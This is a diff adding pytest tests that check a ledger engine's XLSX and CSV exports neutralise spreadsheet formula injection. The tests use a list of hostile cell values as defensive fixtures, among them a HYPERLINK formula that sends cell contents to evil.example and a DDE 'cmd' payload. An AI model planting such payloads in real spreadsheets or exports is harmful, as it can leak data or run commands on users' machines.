@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import date
+from typing import Any
 
 import pytest
 from openpyxl import load_workbook
@@ -12,6 +14,7 @@ from openpyxl import load_workbook
 from engine.api import Engine
 from engine.clock import FixedClock
 from engine.errors import PermissionDenied
+from engine.ledger import LEDGERS, Ledger
 from tests.test_process_clue_triage import (
     FULIANG,
     LEPING,
@@ -76,3 +79,51 @@ def test_exports_read_back(two_cases: Engine) -> None:
     parsed = list(csv.reader(io.StringIO(text)))
     assert parsed[0] == book.headers
     assert parsed[1][0] == "ZF-2026-000001" and parsed[2][0] == "ZF-2026-000002"
+
+
+# Formula injection: text a spreadsheet would take as a formula (OWASP "CSV injection").
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
+HARMLESS: list[Any] = ["某县行政审批局", "a=b", "", -3, 2.5, 0]
+
+
+def read_xlsx(data: bytes) -> list[list[Any]]:
+    """The cells of the first sheet, failing on any formula."""
+    sheet = load_workbook(io.BytesIO(data)).active
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    return [[c.value for c in row] for row in sheet.iter_rows()]
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_exports_never_hold_a_formula() -> None:
+    values = [*HOSTILE, *HARMLESS]
+    book = Ledger(LEDGERS["clue"], [f"列{i}" for i in range(len(values))], [values])
+
+    cells = read_xlsx(book.to_xlsx())[1]
+    assert cells[:len(HOSTILE)] == HOSTILE  # stored as text, exactly as given
+    assert cells[len(HOSTILE):] == ["某县行政审批局", "a=b", None, -3, 2.5, 0]  # numbers stay
+    sheet = load_workbook(io.BytesIO(book.to_xlsx())).active
+    kinds = [(c.data_type, c.quotePrefix) for c in sheet[2]]
+    assert kinds[:len(HOSTILE)] == [("s", True)] * len(HOSTILE)  # Excel keeps them text
+    assert kinds[-3:] == [("n", False)] * 3  # -3, 2.5 and 0 stay numbers
+
+    row = read_csv(book.to_csv())[1]
+    assert row[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
+    assert row[len(HOSTILE):] == ["某县行政审批局", "a=b", "", "-3", "2.5", "0"]
+
+
+def test_a_hostile_case_field_is_text_in_both_exports(two_cases: Engine) -> None:
+    hostile = '=HYPERLINK("http://evil.example","查看")'
+    register(two_cases, accused_unit=hostile)
+    book = two_cases.ledger("clue")
+    index = book.headers.index("被反映单位")
+    assert [r[0] for r in read_xlsx(book.to_xlsx())[1:]] == [
+        "ZF-2026-000001", "ZF-2026-000002", "ZF-2026-000003"]
+    assert read_xlsx(book.to_xlsx())[3][index] == hostile
+    assert read_csv(book.to_csv())[3][index] == "'" + hostile
